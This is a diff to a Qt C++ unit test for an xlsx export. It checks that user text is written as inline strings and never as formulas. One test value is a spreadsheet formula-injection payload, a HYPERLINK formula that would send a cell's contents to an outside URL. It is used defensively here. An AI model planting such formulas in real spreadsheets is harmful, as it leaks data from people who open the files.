@@ -273,13 +273,14 @@ private slots:
             process.waitForFinished(10000);
             return QString::fromUtf8(process.readAllStandardOutput());
         };
-        const QString strings = unzip(QStringLiteral("xl/sharedStrings.xml"));
+        // Rows are written as they come, their texts inline in the sheet.
         const QString events = unzip(QStringLiteral("xl/worksheets/sheet1.xml"));
-        QVERIFY2(strings.contains(QStringLiteral("<t>=HYPERLINK(\"http://x?y=\"&amp;A2) ") + Pound + QStringLiteral("</t>")),
-                 qPrintable(strings));
+        QVERIFY2(events.contains(QStringLiteral("t=\"inlineStr\"><is><t>=HYPERLINK(\"http://x?y=\"&amp;A2) ") + Pound
+                                 + QStringLiteral("</t></is>")),
+                 qPrintable(events.left(2000)));
         QVERIFY(!events.contains(QStringLiteral("<f>")));
         QVERIFY2(events.contains(QStringLiteral("<c r=\"B2\"><v>99</v></c>")), qPrintable(events.left(2000))); // subject
-        QVERIFY(events.contains(QStringLiteral("<c r=\"G2\" t=\"s\">")));                                   // kind
+        QVERIFY(events.contains(QStringLiteral("<c r=\"G2\" t=\"inlineStr\"><is><t>Start</t>")));        // kind
         QVERIFY(unzip(QStringLiteral("xl/workbook.xml")).contains(QStringLiteral("name=\"attempts\"")));
     }
 };
